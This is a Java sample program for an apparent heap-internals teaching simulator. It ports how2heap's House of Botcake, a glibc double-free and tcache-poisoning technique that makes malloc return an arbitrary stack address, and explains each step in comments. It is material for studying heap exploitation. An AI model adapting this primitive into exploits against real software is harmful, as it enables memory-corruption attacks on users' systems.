package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * House of Botcake: a port of how2heap's {@code glibc_2.36/house_of_botcake.c}. A double free that the
 * tcache's key check cannot see, because the first free sent the chunk to the unsorted bin, where it
 * merged with its neighbour; the second free puts it in the tcache inside a bigger free chunk.
 *
 * <p>What to notice:
 * a) with the 0x110 tcache full, freeing a and then prev (a's lower neighbour) merges them into one
 *    0x220 chunk in the unsorted bin: a is no longer a chunk of its own, and its tcache key was never
 *    written;
 * b) one malloc(0x100) makes room in the tcache, and the second free(a) passes: a is now at the head of
 *    the 0x110 tcache and inside the free 0x220 chunk at the same time;
 * c) malloc(0x210) takes the 0x220 chunk, which covers a's link: writing the stack target there (mangled
 *    with a's address >> 12) makes the second malloc(0x100) return the target.
 *
 * <p>Which check stops it: none in 2.36 or later that we know of (how2heap lists it as working on the
 * latest glibc). It exists because 2.29's tcache key (commit bcdaad21) catches a plain double free into
 * the tcache, which only walks the tcache, not the other bins.
 *
 * <p>Run: {@code ./mallocscope run house-of-botcake}
 */
@Sample(name = "house-of-botcake", description = "how2heap: a double free hidden by a merge in the unsorted bin")
public final class HouseOfBotcake implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        c.puts("House of Botcake: a double free the tcache cannot see.");
        long stackVar = c.local(4 * 8);
        c.printf("Target: %p\n", stackVar);

        c.puts("Seven 0x110 chunks to fill the tcache with, then prev, a and a guard against top.");
        long[] x = new long[7];
        for (int i = 0; i < x.length; i++) {
            x[i] = c.malloc(0x100);
        }
        long prev = c.malloc(0x100);
        c.printf("prev: malloc(0x100) = %p\n", prev);
        long a = c.malloc(0x100);
        c.printf("a: malloc(0x100) = %p\n", a);
        c.malloc(0x10);

        for (long p : x) {
            c.free(p);
        }
        c.puts("The 0x110 tcache is full; free(a) goes to the unsorted bin.");
        c.free(a);
        c.free(prev);
        c.printf("free(prev): merged with a into %p, size word 0x%lx, in the unsorted bin\n", prev - 16,
                c.getLong(prev - 8));

        c.printf("malloc(0x100) = %p makes room in the tcache\n", c.malloc(0x100));
        c.free(a); // the double free: a is inside the free 0x220 chunk
        c.printf("free(a) again: the tcache for 0x110 now starts with %p\n", a);

        long big = c.malloc(0x100 + 0x100 + 0x10);
        c.printf("malloc(0x210) = %p: it covers a (%p) and its link\n", big, a);
        c.putLong(big + 0x110, (a >> 12) ^ stackVar);

        long victim = c.malloc(0x100);
        long size = c.getLong(victim - 8) & 0xff0;
        c.printf("victim: %p, size 0x%lx, end %p\n", victim, size, victim + size);
        long target = c.malloc(0x100);
        c.printf("malloc(0x100) #2 = %p, the target\n", target);
        c.putLong(target, 0xcafebabeL);
        c.assertTrue(c.getLong(stackVar) == 0xcafebabeL, "stack_var[0] == 0xcafebabe");
        c.printf("The target now holds 0x%lx.\n", c.getLong(stackVar));
        return 0;
    }
}
